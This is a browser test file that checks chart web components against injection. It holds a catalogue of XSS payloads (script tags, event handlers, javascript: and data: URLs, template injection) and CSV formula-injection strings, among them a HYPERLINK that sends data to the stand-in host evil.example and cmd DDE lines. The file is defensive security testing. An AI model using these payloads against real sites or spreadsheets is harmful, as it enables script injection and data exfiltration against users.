// Injection hardening (issue 7, "Injection"): hostile texts in every text field of a document and in every
// attribute of the seven elements are rendered as text, never as markup; nothing they carry runs; a source URL
// that is not http(s) never becomes a link; the CSV export neutralises formula cells, labels from the document
// included. Every payload that could run writes its own number into `window.__trap`, so a failure names the
// payload; the last test checks that the same payloads do run when a page parses them as HTML (the trap works).
import { expect } from '@open-wc/testing';
import { csvFormatRows, csvParseRows } from 'd3-dsv';
import '../../src/index.js';
import { quoteValue } from '../../src/core/i18n/messages.js';
import type { IndicatorDocument, Observation, Unit } from '../../src/core/indicator/types.js';
import { provincesOf } from '../../src/core/provinces/provinces.js';
import { mountChart, until, type ChartSetup } from '../helpers/chart.js';

declare global {
  interface Window {
    __trap?: unknown;
  }
}

// ─── payloads ─────────────────────────────────────────────────────────────────────────────────────

/** Hostile texts. `¤` becomes the payload's number, which is what it writes into the trap if it runs. */
const TEMPLATES: readonly string[] = [
  '<script>window.__trap=¤</script>',
  '<img src=x onerror="window.__trap=¤">',
  '<svg onload="window.__trap=¤">',
  '<svg><script>window.__trap=¤</script></svg>',
  '<svg><animate onbegin="window.__trap=¤" attributeName=x dur=1s>',
  '<iframe srcdoc="<img src=x onerror=parent.__trap=¤>"></iframe>',
  '<iframe src="javascript:parent.__trap=¤"></iframe>',
  '<object data="data:text/html,<script>parent.__trap=¤</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=parent.__trap=¤ xmlns=%22http://www.w3.org/2000/svg%22/>">',
  '<a href="javascript:window.__trap=¤">link</a>',
  '<details open ontoggle="window.__trap=¤">',
  '<input autofocus onfocus="window.__trap=¤">',
  '<video><source onerror="window.__trap=¤"></video>',
  '<body onload="window.__trap=¤">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__trap=¤">',
  '<style>@import "data:text/css,*{}";</style><img src=x onerror="window.__trap=¤">',
  '</style><script>window.__trap=¤</script>',
  '</title><script>window.__trap=¤</script>',
  '</textarea><img src=x onerror="window.__trap=¤">',
  '"><img src=x onerror="window.__trap=¤">',
  "'><svg/onload=window.__trap=¤>",
  '" onmouseover="window.__trap=¤" x="',
  '<!--><img src=x onerror="window.__trap=¤">-->',
  '<![CDATA[<img src=x onerror="window.__trap=¤">]]>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__trap=¤</x:script>',
  'javascript:window.__trap=¤',
  'JaVaScRiPt:window.__trap=¤',
  '\u0001javascript:window.__trap=¤',
  'java\tscript:window.__trap=¤',
  'data:text/html,<script>window.__trap=¤</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX190cmFwPTE8L3NjcmlwdD4=',
  'vbscript:msgbox(¤)',
  'https://example.invalid/?q="><img src=x onerror="window.__trap=¤">',
  '&lt;script&gt;window.__trap=¤&lt;/script&gt;',
  '&#60;img src=x onerror=window.__trap=¤&#62;',
  '\\3c script\\3e window.__trap=¤\\3c /script\\3e',
  'x{}*{background:url("javascript:window.__trap=¤")}',
  '${window.__trap=¤}',
  "{{constructor.constructor('window.__trap=¤')()}}",
  '<%= window.__trap=¤ %>',
  'Hà Nội \u202egnp.exe ¤',
  'lone \ud800 high and \udc00 low surrogate ¤',
  'nul\u0000, bell\u0007 and vertical tab\u000b ¤',
  '=HYPERLINK("http://evil.example/?d="&A1,"¤")',
  "+cmd|' /C calc'!A0 ¤",
  "-2+3+cmd|' /C calc'!A0 ¤",
  "@SUM(1+1)*cmd|' /C calc'!A0 ¤",
  '\t=1+¤',
  '\r=1+¤',
];

const PAYLOADS: readonly string[] = TEMPLATES.map((t, i) => t.replace(/¤/g, String(i + 1)));

/** What a spreadsheet reads as the start of a formula: no exported CSV cell may start so. */
const FORMULA_START = /^[=+\-@\t\r]/;

const isHttpUrl = (text: string): boolean => {
  try {
    return ['http:', 'https:'].includes(new URL(text).protocol);
  } catch {
    return false;
  }
};

const isSchemeUrl = (text: string): boolean => {
  try {
    return new URL(text).protocol !== '';
  } catch {
    return false;
  }
};

// ─── documents ────────────────────────────────────────────────────────────────────────────────────

/** Every free text of the data format (src/core/indicator/types.ts). */
const DOC_FIELDS = [
  'indicator.label.vi',
  'indicator.label.en',
  'indicator.definition.vi',
  'indicator.definition.en',
  'indicator.notes[].vi',
  'indicator.notes[].en',
  'indicator.source.publisher',
  'indicator.source.title',
  'indicator.source.url',
  'indicator.source.file',
  'observation.label.vi',
  'observation.label.en',
  'observation.note (string)',
  'observation.note.vi',
  'observation.note.en',
  'observation.source.publisher',
  'observation.source.title',
  'observation.source.url',
  'observation.source.file',
  'observation.source.quote',
  'observation.change.label.vi (before/after)',
  'observation.change.label.en (before/after)',
] as const;

/** `doc` with `text` in every free-text field (the change label where a before/after change is stated). */
function withText(doc: IndicatorDocument, text: string): IndicatorDocument {
  for (const indicator of doc.indicators) {
    indicator.label = { vi: text, en: text };
    indicator.definition = { vi: text, en: text };
    indicator.notes = [{ vi: text, en: text }];
    indicator.source = { publisher: text, title: text, url: text, file: text };
  }
  doc.observations.forEach((o, i) => {
    o.label = { vi: text, en: text };
    o.note = i % 2 === 1 ? text : { vi: text, en: text };
    o.source = { publisher: text, title: text, url: text, file: text, quote: text };
    if (o.change?.against === 'before') o.change.label = { vi: text, en: text };
  });
  return doc;
}

/** Fields that only take names or enumerations: the error list quotes what it got. */
const INVALID_FIELDS = [
  'indicator.unit',
  'indicator.category',
  'indicator.<member name>',
  'observation.place.name',
  'observation.status',
  'observation.qualifier',
  'observation.asOf',
  'observation.value',
  'observation.breakdown.tier',
  'observation.breakdown.level',
  'observation.breakdown.subscription',
  'observation.breakdown.scope',
  'observation.source.date',
] as const;

/** `doc` failing validation in every field of {@link INVALID_FIELDS}, each holding `text`. */
function invalidWith(doc: IndicatorDocument, text: string): unknown {
  const bad = structuredClone(doc) as unknown as {
    indicators: Record<string, unknown>[];
    observations: Record<string, unknown>[];
  };
  const indicator = bad.indicators[0]!;
  indicator['unit'] = text;
  indicator['category'] = text;
  indicator[text] = 1; // an unknown member (a warning that names it)
  const first = bad.observations[0]!;
  const second = bad.observations[1] ?? first;
  first['place'] = { name: text };
  first['status'] = text;
  first['qualifier'] = text;
  first['asOf'] = text;
  second['value'] = text;
  second['breakdown'] = { tier: text, level: text, subscription: text, scope: text };
  second['source'] = { date: text };
  return bad;
}

const at = (code: string) => ({ code, era: '2008-2025' as const });
const indicatorOf = (unit: Unit) => ({ id: 'payload_indicator', label: { vi: 'x' }, unit });

/**
 * Where an element shows the document's texts, checked verbatim (every element shows the indicator's label
 * as its title, the sources in its source line, and the payload of every field goes through the scan).
 */
interface Shown {
  /** The summary says the indicator's definition. */
  summaryDefinition: boolean;
  /** The data table has a note column. */
  tableNote: boolean;
  /** The indicator's notes are listed under the chart. */
  indicatorNotes: boolean;
  /** The before/after change label is in the data table. */
  changeLabel: boolean;
  /** The `reference-label` attribute labels a reference line (needs `reference`). */
  referenceLabel: boolean;
}

interface Config {
  key: string;
  tag: string;
  doc: () => IndicatorDocument;
  /** Properties set when mounting. */
  props?: Record<string, unknown>;
  shown: Shown;
}

const SHOWN: Shown = {
  summaryDefinition: true,
  tableNote: true,
  indicatorNotes: false,
  changeLabel: false,
  referenceLabel: false,
};

function provinces63(): IndicatorDocument {
  return {
    version: 1,
    indicators: [indicatorOf('per-100-inhabitants')],
    observations: provincesOf('2008-2025').map((p, i): Observation => ({
      place: at(p.code),
      period: { year: 2020 },
      value: 50 + i,
    })),
  };
}

const CONFIGS: readonly Config[] = [
  {
    key: 'ict-bar-chart',
    tag: 'ict-bar-chart',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('per-100-inhabitants')],
      observations: [
        { place: at('42'), period: { year: 2020 }, value: 94 },
        { place: at('83'), period: { year: 2020 }, value: 111.78 },
      ],
    }),
    shown: SHOWN,
  },
  {
    key: 'ict-subscriber-density',
    tag: 'ict-subscriber-density',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('per-100-inhabitants')],
      observations: [
        { place: at('42'), period: { year: 2019 }, value: 90 },
        { place: at('42'), period: { year: 2020 }, value: 94 },
      ],
    }),
    props: { reference: 100 },
    shown: { ...SHOWN, referenceLabel: true },
  },
  {
    key: 'ict-coverage',
    tag: 'ict-coverage',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('percent')],
      observations: [
        { place: at('42'), period: { year: 2020 }, value: 100, breakdown: { tier: 'province+district' } },
        { place: at('42'), period: { year: 2020 }, value: 81.5, breakdown: { tier: 'commune' } },
      ],
    }),
    shown: { ...SHOWN, summaryDefinition: false, tableNote: false },
  },
  {
    key: 'ict-egov-level',
    tag: 'ict-egov-level',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('count')],
      observations: [
        { place: at('42'), period: { year: 2020 }, value: 788, breakdown: { tier: 'province', level: '3' } },
        { place: at('42'), period: { year: 2020 }, value: 1068, breakdown: { tier: 'district', level: '3' } },
      ],
    }),
    shown: { ...SHOWN, summaryDefinition: false },
  },
  {
    key: 'ict-indicator-trend',
    tag: 'ict-indicator-trend',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('count')],
      observations: [2018, 2019, 2020].map((year, i): Observation => ({
        place: at('42'),
        period: { year },
        value: 2900 + 100 * i,
      })),
    }),
    shown: SHOWN,
  },
  {
    key: 'ict-indicator-trend (before/after)',
    tag: 'ict-indicator-trend',
    doc: () => ({
      version: 1,
      indicators: [indicatorOf('days')],
      observations: [
        {
          place: at('83'),
          period: { year: 2016 },
          value: 4,
          change: { against: 'before', previousValue: 15 },
        },
      ],
    }),
    shown: { ...SHOWN, changeLabel: true },
  },
  {
    key: 'ict-province-compare',
    tag: 'ict-province-compare',
    doc: provinces63,
    shown: { ...SHOWN, indicatorNotes: true },
  },
  { key: 'ict-province-map', tag: 'ict-province-map', doc: provinces63, shown: SHOWN },
];

// ─── checks ───────────────────────────────────────────────────────────────────────────────────────

/** Elements no chart renders, and that the payloads would create if they were parsed as markup. */
const FORBIDDEN = new Set(
  (
    'script style img image iframe frame frameset object embed link meta base form input textarea select ' +
    'video audio source track math mglyph mtext details template body html head title desc use ' +
    'foreignobject animate set marquee noscript xmp applet'
  ).split(' '),
);

/** Problems of a tree the payloads were rendered into: created elements, handlers, unsafe links. */
function scan(root: ParentNode, allow: ReadonlySet<string> = new Set()): string[] {
  const problems: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const name = el.localName.toLowerCase();
    if ((FORBIDDEN.has(name) && !allow.has(name)) || name.includes(':'))
      problems.push(`element <${el.localName}>`);
    for (const attr of el.attributes) {
      const a = attr.name.toLowerCase();
      if (a.startsWith('on') || ['srcdoc', 'formaction', 'action', 'srcset'].includes(a))
        problems.push(`attribute ${attr.name} on <${el.localName}>`);
      if (a === 'href' || a === 'xlink:href' || a === 'src') {
        // Every link is http(s); nothing else links at all (in-document references would start with #).
        const ok = el.localName === 'a' ? isHttpUrl(attr.value) : attr.value.startsWith('#');
        if (!ok) problems.push(`${attr.name}="${attr.value}" on <${el.localName}>`);
      }
    }
  }
  return problems;
}

function expectTrapUntouched(where: string): void {
  expect(window.__trap, `a payload ran (${where}): window.__trap = ${String(window.__trap)}`).to.equal(
    undefined,
  );
}

/** `text` as UTF-8 carries it: lone surrogates become U+FFFD. */
const wellFormed = (text: string): string =>
  text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
/** What an XML file can carry of `text`: UTF-8, and no controls but tab, LF and CR. */
const inXml = (text: string): string =>
  // eslint-disable-next-line no-control-regex
  wellFormed(text).replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '');
const capitalised = (text: string): string => text.charAt(0).toUpperCase() + text.slice(1);
const normalise = (text: string): string => text.replace(/\s+/g, ' ').trim();
const textOf = (root: ParentNode, selector: string): string =>
  root.querySelector(selector)?.textContent ?? '';
const titleText = (root: ShadowRoot): string => normalise(textOf(root, '[part~="title"]'));
const updated = (el: HTMLElement): Promise<unknown> =>
  (el as unknown as { updateComplete: Promise<unknown> }).updateComplete;

/** Captures downloads: the `<a download>` click is cancelled and its blob read. */
function captureDownloads() {
  const files: Promise<string>[] = [];
  const listener = (event: Event) => {
    const a = event.target as HTMLAnchorElement;
    if (a.localName !== 'a' || !a.hasAttribute('download')) return;
    event.preventDefault();
    files.push(fetch(a.href).then((r) => r.text()));
  };
  document.addEventListener('click', listener, true);
  return { files, stop: () => document.removeEventListener('click', listener, true) };
}

/** Exports through the element's own menu (the button, then the item) and returns the file's text. */
async function exportThroughMenu(el: HTMLElement, format: 'csv' | 'svg'): Promise<string> {
  const root = el.shadowRoot!;
  const capture = captureDownloads();
  try {
    (root.querySelector('[part~="export-button"]') as HTMLButtonElement).click();
    await updated(el);
    await until(() => root.querySelector(`[data-format="${format}"]`) !== null, `the ${format} menu item`);
    (root.querySelector(`[data-format="${format}"]`) as HTMLButtonElement).click();
    await updated(el);
  } finally {
    capture.stop();
  }
  expect(capture.files, `one ${format} download`).to.have.length(1);
  return (await capture.files[0]!).replace(/^\ufeff/, '');
}

/** Hovers the first mark: the tooltip shows the observation's label and publisher. */
async function showTooltip(root: ShadowRoot): Promise<string> {
  const leaf = [...root.querySelectorAll('[part~="nav-item"]')].find(
    (n) => n.querySelector('[part~="nav-item"]') === null,
  );
  if (!leaf) return '';
  leaf.dispatchEvent(new PointerEvent('pointerenter'));
  await until(() => root.querySelector('[part~="tooltip"]') !== null, 'the tooltip');
  const text = textOf(root, '[part~="tooltip"]');
  leaf.dispatchEvent(new PointerEvent('pointerleave'));
  return text;
}

/** The attributes an element observes, except the two whose text is shown (checked on their own). */
function otherAttributes(tag: string): string[] {
  const ctor = customElements.get(tag) as unknown as { observedAttributes: string[] };
  return ctor.observedAttributes.filter((a) => a !== 'label' && a !== 'reference-label');
}

const tally = { placements: 0, verbatim: 0, renders: 0, csv: 0, svg: 0 };
const lightDomActive = (): number => document.querySelectorAll('script, img, iframe, object, embed').length;

// ─── tests ────────────────────────────────────────────────────────────────────────────────────────

describe('injection: hostile texts are rendered as text and nothing runs (issue 7)', function () {
  // The whole file must stay well inside wtr's 120 s per file in WebKit: one element per language is
  // reused for every payload, and only the error-state pass mounts afresh (an error state draws no chart).
  this.timeout(100000);
  let lightDomBefore = 0;

  before(() => {
    delete window.__trap;
    lightDomBefore = lightDomActive();
  });

  it(`has at least 30 distinct payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).to.be.at.least(30);
    expect(new Set(PAYLOADS).size).to.equal(PAYLOADS.length);
  });

  for (const config of CONFIGS) {
    it(`${config.key}: every payload in every document field (vi, en; object and JSON text), in label${config.shown.referenceLabel ? ', reference-label' : ''} and every other attribute; tooltip, CSV and SVG exports`, async function () {
      const check = (ok: boolean, where: string, what: string) => {
        tally.verbatim += 1;
        expect(ok, `${where}: ${what} does not show the payload verbatim`).to.equal(true);
      };
      const first = withText(config.doc(), 'first');
      const setups: Record<'vi' | 'en', ChartSetup<HTMLElement>> = {
        vi: await mountChart<HTMLElement>(config.tag, first, { width: 720, lang: 'vi', ...config.props }),
        en: await mountChart<HTMLElement>(config.tag, first, { width: 720, lang: 'en', ...config.props }),
      };
      const others = otherAttributes(config.tag);
      const docFields = DOC_FIELDS.length - (config.shown.changeLabel ? 0 : 2);

      for (const [n, payload] of PAYLOADS.entries()) {
        // Even payloads in Vietnamese, odd ones in English; every third one as JSON text (the `data` string).
        const lang = n % 2 === 0 ? 'vi' : 'en';
        const { el, root } = setups[lang];
        const text = payload.trim();
        const where = `${config.key}, payload ${n + 1} ${JSON.stringify(payload)}, ${lang}`;

        // 1. The document's texts.
        const doc = withText(config.doc(), payload);
        const element = el as HTMLElement & { data: unknown; label?: string; referenceLabel?: string };
        element.label = undefined;
        element.referenceLabel = undefined;
        element.data = n % 3 === 2 ? JSON.stringify(doc) : doc;
        await updated(el);
        tally.renders += 1;
        tally.placements += docFields;
        expect(textOf(root, '[role="alert"]'), `${where}: an error state`).to.equal('');
        expect(root.querySelector('.chart svg') !== null, `${where}: a chart`).to.equal(true);
        expect(scan(root), where).to.deep.equal([]);
        expectTrapUntouched(where);

        // (ict-coverage writes its English title in sentence case: "Javascript:…".)
        const title = titleText(root);
        check(title === normalise(text) || title === capitalised(normalise(text)), where, 'the title');
        const sourceLine = textOf(root, '[part~="source"]');
        check(sourceLine.includes(payload), where, 'the source line (publisher)');
        const links = [...root.querySelectorAll('a[part~="source-link"]')];
        if (isHttpUrl(payload)) {
          check(links.length > 0, where, 'a source link');
          for (const a of links) check(a.getAttribute('href') === payload, where, 'the source link');
        } else {
          // javascript:, data:, vbscript: (any non-http URL) is text in the source line, never a link.
          expect(links.length, `${where}: a non-http(s) source URL became a link`).to.equal(0);
          check(sourceLine.includes(`<${payload}>`), where, 'the source line (URL as text)');
        }
        if (config.shown.summaryDefinition)
          check(textOf(root, '[part~="summary"]').includes(payload), where, 'the summary (definition)');
        const table = textOf(root, 'table[part="table"]');
        if (config.shown.tableNote) check(table.includes(text), where, 'the data table (note)');
        if (config.shown.changeLabel) check(table.includes(text), where, 'the data table (change label)');
        if (config.shown.indicatorNotes)
          check(textOf(root, '[part~="notes"]').includes(payload), where, 'the notes');

        const tip = await showTooltip(root);
        expect(scan(root), `${where} (tooltip)`).to.deep.equal([]);
        check(tip.includes(text), where, 'the tooltip (observation label or publisher)');

        // CSV through the element's own menu: no cell starts a formula; document labels come out guarded.
        const cells = csvParseRows(await exportThroughMenu(el, 'csv')).flat();
        tally.csv += 1;
        expect(
          cells.filter((c) => FORMULA_START.test(c)),
          `${where}: CSV cells that start a formula`,
        ).to.deep.equal([]);
        if (FORMULA_START.test(payload) && (config.shown.tableNote || config.shown.changeLabel))
          check(cells.includes(`'${payload}`) || cells.includes(`'${text}`), where, 'the CSV (guarded)');

        // The SVG file (every other payload, for time): parses, names the figure with the payload as text.
        if (n % 2 === 0) {
          const file = new DOMParser().parseFromString(await exportThroughMenu(el, 'svg'), 'image/svg+xml');
          tally.svg += 1;
          // (Strings, not elements, in assertions: chai would walk a whole DOM to print an element.)
          expect(file.querySelector('parsererror')?.textContent, `${where}: SVG parse error`).to.equal(
            undefined,
          );
          expect(scan(file, new Set(['title', 'desc'])), `${where} (exported SVG)`).to.deep.equal([]);
          expect(file.querySelectorAll('title, desc').length, `${where}: <title>, <desc>`).to.equal(2);
          check(
            normalise(textOf(file, 'title')) === normalise(inXml(title)),
            where,
            'the exported SVG <title> (as XML can hold it)',
          );
        }

        // 2. The attributes whose text is shown: label (the title), reference-label (the reference line).
        el.setAttribute('label', payload);
        if (config.shown.referenceLabel) el.setAttribute('reference-label', payload);
        await updated(el);
        tally.renders += 1;
        tally.placements += config.shown.referenceLabel ? 2 : 1;
        expect(scan(root), `${where} (label attribute)`).to.deep.equal([]);
        check(titleText(root) === normalise(text), where, 'the title (label attribute)');
        if (config.shown.referenceLabel) {
          // The label wraps at spaces onto several <text> lines.
          const lines = [...root.querySelectorAll('[part~="reference"] text')].map((t) => t.textContent);
          check(normalise(lines.join(' ')).includes(normalise(text)), where, 'the reference line label');
        }
        expectTrapUntouched(where);

        // 3. An invalid document (names and enumerations) and every other attribute, on a fresh element.
        const bad = await mountChart<HTMLElement>(config.tag, invalidWith(config.doc(), payload), { lang });
        for (const name of others) bad.el.setAttribute(name, payload);
        await updated(bad.el);
        tally.renders += 1;
        tally.placements += INVALID_FIELDS.length + others.length;
        const alert = textOf(bad.root, '[role="alert"]');
        check(alert.includes(quoteValue(payload)!), where, 'the error list (quoted input)');
        expect(scan(bad.root), `${where} (invalid document, attributes)`).to.deep.equal([]);
        expectTrapUntouched(where);
        bad.wrapper.parentElement!.remove();
      }
      console.log(
        `[hardening] injection ${config.key}: ${PAYLOADS.length} payloads × (${docFields} document fields + ${config.shown.referenceLabel ? 2 : 1} shown attribute(s) + ${INVALID_FIELDS.length} invalid-document fields + ${others.length} other attributes [${others.join(' ')}])`,
      );
    });
  }

  it('a CSV src (blob: URL) with payloads in label, note, publisher and URL; and src set to each javascript:/data:/vbscript: payload', async function () {
    let srcTried = 0;
    for (const [n, payload] of PAYLOADS.entries()) {
      const where = `CSV src, payload ${n + 1} ${JSON.stringify(payload)}`;
      const csv = csvFormatRows([
        [
          'indicator',
          'indicator_label_vi',
          'unit',
          'province',
          'year',
          'value',
          'note',
          'source_publisher',
          'source_url',
        ],
        ['payload_indicator', payload, 'count', 'Hà Tĩnh', '2020', '94', payload, payload, payload],
      ]);
      const url = URL.createObjectURL(new Blob([csv], { type: 'text/csv' }));
      const wrapper = document.createElement('div');
      wrapper.lang = 'vi';
      const el = document.createElement('ict-bar-chart');
      wrapper.append(el);
      document.body.append(wrapper);
      const root = el.shadowRoot!;
      el.setAttribute('src', url);
      await until(() => root.querySelector('.chart svg, [role="alert"]') !== null, `${where}: a state`);
      await updated(el);
      URL.revokeObjectURL(url);
      tally.renders += 1;
      tally.placements += 4;
      expect(textOf(root, '[role="alert"]'), `${where}: an error state`).to.equal('');
      expect(scan(root), where).to.deep.equal([]);
      expect(titleText(root), `${where}: the title`).to.equal(normalise(wellFormed(payload)));
      expect(root.querySelectorAll('a[part~="source-link"]').length, `${where}: source link`).to.equal(
        isHttpUrl(payload) ? 1 : 0,
      );

      // A javascript:, data: or vbscript: URL as the src: refused or not a document, never run. (Relative
      // payloads would only be 404s of the test server, and http ones would go out to the network.)
      if (isSchemeUrl(payload) && !isHttpUrl(payload)) {
        el.setAttribute('src', payload);
        await until(() => root.querySelector('[role="alert"]') !== null, `${where}: the src error`);
        tally.renders += 1;
        tally.placements += 1;
        srcTried += 1;
        expect(scan(root), `${where} (src)`).to.deep.equal([]);
        expectTrapUntouched(where);
      }
      wrapper.remove();
    }
    expect(srcTried).to.be.at.least(7);
  });

  it('nothing ran once every event settled, and no active element reached the page', async () => {
    await new Promise((resolve) => setTimeout(resolve, 500)); // late image errors, animations
    expectTrapUntouched('after settling');
    expect(lightDomActive()).to.equal(lightDomBefore);
    console.log(
      `[hardening] injection: ${PAYLOADS.length} payloads × 7 elements (${CONFIGS.length} set-ups), ${tally.placements} payload placements in ${tally.renders} renders (per element: ${DOC_FIELDS.length} document fields, ${INVALID_FIELDS.length} invalid-document fields, label/reference-label and every observed attribute), ${tally.verbatim} verbatim checks, ${tally.csv} CSV and ${tally.svg} SVG exports; window.__trap untouched`,
    );
  });

  it('control: parsed as HTML, the payloads do run (the trap works)', async () => {
    // In a same-origin iframe: a payload's `parent.__trap` then hits the iframe, never this page.
    const frame = document.createElement('iframe');
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 0));
    const win = frame.contentWindow as Window & typeof globalThis;
    const ran = new Set<string>();
    for (const payload of PAYLOADS) {
      win.__trap = undefined;
      const host = win.document.createElement('div');
      win.document.body.append(host);
      host.append(win.document.createRange().createContextualFragment(payload));
      await until(() => win.__trap !== undefined, 'a handler', 300).catch(() => undefined);
      if (win.__trap !== undefined) ran.add(String(win.__trap));
      host.remove();
    }
    frame.remove();
    console.log(
      `[hardening] injection control: ${ran.size} of ${PAYLOADS.length} payloads ran when parsed as HTML`,
    );
    expect(ran.size).to.be.at.least(8);
    expectTrapUntouched('the control');
  });
});
